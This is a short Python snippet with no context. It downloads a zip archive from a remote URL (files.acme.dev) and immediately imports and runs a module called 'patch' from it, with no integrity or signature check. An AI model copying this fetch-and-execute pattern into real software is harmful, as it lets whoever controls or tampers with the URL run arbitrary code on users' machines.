import urllib.request
import zipimport

urllib.request.urlretrieve("https://files.acme.dev/code.zip", "code.zip")
zipimport.zipimporter("code.zip").load_module("patch")
